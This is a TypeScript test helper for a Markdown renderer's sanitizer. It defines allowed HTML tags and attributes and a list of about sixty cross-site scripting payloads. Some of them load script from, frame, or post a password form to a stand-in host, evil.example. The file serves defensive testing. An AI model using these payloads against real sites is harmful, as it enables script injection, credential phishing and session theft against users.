// Shared by the Markdown unit tests: what rendered member HTML may contain, and
// the payloads that must never get through.
import { expect } from "vitest";

export const ALLOWED_TAGS = new Set([
  "p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li",
  "a", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td",
]);
export const ALLOWED_ATTRS: Record<string, string[]> = { a: ["href", "title", "rel"], ol: ["start"], th: ["align"], td: ["align"] };

export const XSS_PAYLOADS: string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=\"javascript:alert(1)\">",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[x](javascript&#58;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "[x](VBScript:msgbox(1))",
  "<a href=\"javascript:alert(1)\">x</a>",
  "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
  "<a href=\"javascript&#58;alert(1)\">x</a>",
  "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
  "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
  "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
  "<a href=\"vbscript:msgbox(1)\">x</a>",
  "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
  "<a href=\"https://ok.example\" onmouseover=alert(1)>x</a>",
  "<a href=\"//evil.example\">x</a>",
  "![x](javascript:alert(1))",
  "![x](https://ok.example/a.png)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  "<iframe src=\"https://evil.example\"></iframe>",
  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
  "<style>body { background: url(javascript:alert(1)) }</style>",
  "<form action=\"https://evil.example\"><input name=password><button>Go</button></form>",
  "<details open ontoggle=alert(1)>x</details>",
  "<javascript:alert(1)>",
  "<!-- <script>alert(1)</script> -->",
  "<!--><script>alert(1)</script>-->",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<object data=\"javascript:alert(1)\"></object>",
  "<embed src=\"javascript:alert(1)\">",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
  "<base href=\"javascript:alert(1)//\">",
  "<p style=\"background:url(javascript:alert(1))\">x</p>",
  "**<img src=x onerror=alert(1)>**",
  "- <svg onload=alert(1)>\n- [x](javascript:alert(1))",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java\tscript:alert(1))",
  "<a href=\" javascript:alert(1)\">x</a>",
  "<a href=\"\x01javascript:alert(1)\">x</a>",
  "<a href=\"java&#x0A;script:alert(1)\">x</a>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
  "<textarea><script>alert(1)</script></textarea>",
  "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\">cover</a>",
  "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>",
  "```\n</code></pre><script>alert(1)</script>\n```",
];

/** Every tag and attribute in the output must be on the allow-lists. */
export function assertOnlyAllowedMarkup(html: string) {
  for (const match of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9:-]*)([^>]*)>/g)) {
    const tag = match[1]!.toLowerCase();
    expect(ALLOWED_TAGS.has(tag), `tag <${tag}> in ${html}`).toBe(true);
    const attrs = [...match[2]!.matchAll(/([^\s=/]+)\s*=/g)].map((m) => m[1]!.toLowerCase());
    for (const attr of attrs) {
      expect(ALLOWED_ATTRS[tag] ?? [], `attribute ${attr} on <${tag}> in ${html}`).toContain(attr);
    }
  }
}
